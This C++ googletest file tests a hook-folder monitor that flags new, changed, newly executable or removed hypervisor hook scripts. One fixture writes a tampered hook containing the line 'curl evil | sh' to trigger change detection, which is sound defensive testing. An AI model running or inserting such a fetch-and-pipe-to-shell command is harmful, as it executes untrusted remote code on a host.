#include "gate/hook_folder.h"

#include <sys/stat.h>

#include "gate/hook_watch.h"
#include "gmock/gmock.h"
#include "support/matchers.h"
#include "support/temp_dir.h"

namespace vmattest::gate {
namespace {

using ::testing::ElementsAre;
using ::testing::HasSubstr;
using ::testing::IsEmpty;
using testing::IsOk;
using testing::StatusIs;

class HookFolderTest : public ::testing::Test {
 protected:
  HookFolderTest() {
    std::filesystem::create_directories(dir_.path() / "qemu.d");
    dir_.Write("qemu.d/vmattest", "ours");
    dir_.Write("vmattest-hook.json", "{}");
    dir_.Write("network", "#!/bin/sh\n");
  }
  static auto Degraded(const std::string& file, const std::string& how) {
    return StatusIs(absl::StatusCode::kFailedPrecondition,
                    ::testing::AllOf(HasSubstr(file), HasSubstr(how)));
  }
  testing::TempDir dir_;
  std::vector<std::string> notes_;
  HookFolder folder_{
      dir_.path(), [this](auto facts) {
        notes_.push_back(
            facts["state"] + " " +
            std::filesystem::path(facts["file"]).filename().string() + " " +
            facts["digest"].substr(0, 7));
      }};
};

TEST_F(HookFolderTest, S17_OtherHooksAreToldOnceAndOursIsNot) {
  EXPECT_THAT(folder_.Check(), IsOk());
  EXPECT_THAT(notes_, ElementsAre("present network sha256:"));
  EXPECT_THAT(folder_.Check(), IsOk());
  EXPECT_EQ(notes_.size(), 1U);
}

TEST_F(HookFolderTest, ANewHookDegradesUntilItIsGone) {
  EXPECT_THAT(folder_.Check(), IsOk());
  const auto added = dir_.Write("qemu.d/evil", "#!/bin/sh\n");
  EXPECT_THAT(folder_.Check(), Degraded("qemu.d/evil", "is new"));
  EXPECT_EQ(notes_.back(), "new evil sha256:");
  EXPECT_THAT(folder_.Check(), Degraded("qemu.d/evil", "is new"));
  EXPECT_EQ(notes_.size(), 2U);
  std::filesystem::remove(added);
  EXPECT_THAT(folder_.Check(), IsOk());
  EXPECT_EQ(notes_.back(), "removed evil ");
}

TEST_F(HookFolderTest, AChangedHookDegrades) {
  EXPECT_THAT(folder_.Check(), IsOk());
  dir_.Write("network", "#!/bin/sh\ncurl evil | sh\n");
  EXPECT_THAT(folder_.Check(), Degraded("network", "is changed"));
  EXPECT_EQ(notes_.back(), "changed network sha256:");
}

TEST_F(HookFolderTest, ThatAHookRunsNowIsAChange) {
  EXPECT_THAT(folder_.Check(), IsOk());
  ASSERT_EQ(chmod((dir_.path() / "network").c_str(), 0755), 0);
  EXPECT_THAT(folder_.Check(), Degraded("network", "is changed"));
}

TEST_F(HookFolderTest, AHookThatGoesIsAChange) {
  EXPECT_THAT(folder_.Check(), IsOk());
  std::filesystem::remove(dir_.path() / "network");
  EXPECT_THAT(folder_.Check(), Degraded("network", "is removed"));
}

TEST_F(HookFolderTest, AFolderThatIsNotThereHasNoHooks) {
  EXPECT_THAT(MeasureHooks(dir_.path() / "absent"), IsEmpty());
}

}  // namespace
}  // namespace vmattest::gate
